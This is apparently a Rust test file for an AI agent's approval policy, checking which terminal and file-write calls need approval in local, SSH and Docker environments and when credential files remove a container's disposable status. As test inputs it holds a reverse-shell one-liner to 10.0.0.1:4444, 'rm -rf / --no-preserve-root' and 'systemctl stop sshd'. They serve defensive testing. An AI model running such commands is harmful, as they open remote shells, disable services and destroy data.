//! What is asked about elsewhere, and that the question says where it would run.

use std::sync::{Arc, Mutex};

use hermes::core::approval_words;
use hermes::core::call::ToolCall;
use hermes::core::policy::{Answer, ApprovalRequest};
use serde_json::{Value, json};

use crate::support::Bench;

/// Nothing of these can be reached: what gets as far as them was not asked about.
fn bench(more: &Value) -> Bench {
    let mut terminal = json!({
        "backend": "local",
        "environments": {
            "lab": { "backend": "ssh", "host": "lab.invalid", "binary": "/no/such/ssh" },
            "box": { "backend": "docker", "binary": "/no/such/docker" },
            "open": { "backend": "docker", "binary": "/no/such/docker", "volumes": ["/srv:/srv"] },
        },
    });
    terminal.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    Bench::new(&terminal)
}

/// What was asked about a command, and what came of it.
fn tried(bench: &Bench, place: &str, command: &str) -> (Vec<String>, String) {
    called(bench, "terminal", &json!({ "command": command, "environment": place }))
}

/// The same for any tool: where it would be, and why that is asked.
fn called(bench: &Bench, tool: &str, arguments: &Value) -> (Vec<String>, String) {
    let asked = Arc::new(Mutex::new(Vec::new()));
    let keep = Arc::clone(&asked);
    let approver = move |request: &ApprovalRequest| {
        let place = approval_words::place(request).unwrap_or_default();
        keep.lock().unwrap().push(format!("{place}: {}", approval_words::findings(request).join("; ")));
        Answer::Refused { by: "you".to_owned(), why: "no".to_owned() }
    };
    let session = bench.guarded().build().unwrap().session().approver(Arc::new(approver)).open().unwrap();
    let body = session.call_blocking(ToolCall::new(tool, arguments.to_string())).body;
    let asked = asked.lock().unwrap().clone();
    (asked, body)
}

#[test]
fn what_is_disposable_asks_less_and_what_is_shared_or_remote_asks_as_this_machine_does() {
    let bench = bench(&json!({}));
    let stop = "systemctl stop sshd";

    for (place, named) in [("default", "local"), ("lab", "lab"), ("open", "open")] {
        let (asked, body) = tried(&bench, place, stop);
        assert_eq!(asked.len(), 1, "{place}: {body}");
        assert!(asked[0].starts_with(&format!("{named}, in ")), "{place}: {}", asked[0]);
        assert!(body.contains("denied"), "{body}");
    }
    let (asked, body) = tried(&bench, "box", stop);
    assert_eq!(asked, Vec::<String>::new());
    assert!(body.contains("/no/such/docker"), "{body}");
    // What leaves it is asked about there too.
    assert_eq!(tried(&bench, "box", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").0.len(), 1);
    // So are files outside of the home there, by the name of the place.
    let write = json!({ "path": "/srv/www/index.html", "content": "x", "environment": "lab" });
    let (asked, body) = called(&bench, "write_file", &write);
    assert!(asked.len() == 1 && asked[0].contains("lab:/srv/www/index.html"), "{asked:?}: {body}");
    // And what is never allowed is not allowed there.
    let (asked, body) = tried(&bench, "lab", "rm -rf / --no-preserve-root");
    assert!(asked.is_empty() && body.contains("denied"), "{body}");
}

#[test]
fn a_container_that_is_given_credential_files_is_no_longer_disposable() {
    let bench = bench(&json!({ "credential_files": ["token.json"] }));

    assert_eq!(tried(&bench, "box", "systemctl stop sshd").0.len(), 1);
}

#[test]
fn a_skill_that_names_credential_files_makes_places_that_get_them_no_longer_disposable() {
    let bench = bench(&json!({}));
    let skill = |front: &str| {
        bench.write(
            "home/skills/fly/SKILL.md",
            &format!("---\nname: fly\ndescription: x\n{front}---\nFly.\n"),
        );
        tried(&bench, "box", "systemctl stop sshd").0.len()
    };

    assert_eq!(skill(""), 0);
    assert_eq!(skill("required_credential_files: [map.json]\n"), 1);
}

#[test]
fn a_call_can_choose_only_where_there_is_a_choice_and_only_what_is_configured() {
    let definitions = |bench: &Bench| {
        let runtime = bench.runtime();
        let session = runtime.session().open().unwrap();
        let toolbox = session.toolbox_blocking();
        let terminal = toolbox.offered().iter().find(|tool| tool.name().as_ref() == "terminal");
        terminal.unwrap().json().to_owned()
    };

    assert!(definitions(&bench(&json!({}))).contains("\"environment\""));
    let one = Bench::new(&json!({ "backend": "docker", "docker_binary": "/no/such/docker" }));
    assert!(!definitions(&one).contains("\"environment\""));
    let (_, body) = tried(&bench(&json!({})), "other", "true");
    assert!(body.contains("expected one of") && body.contains("other"), "{body}");
}
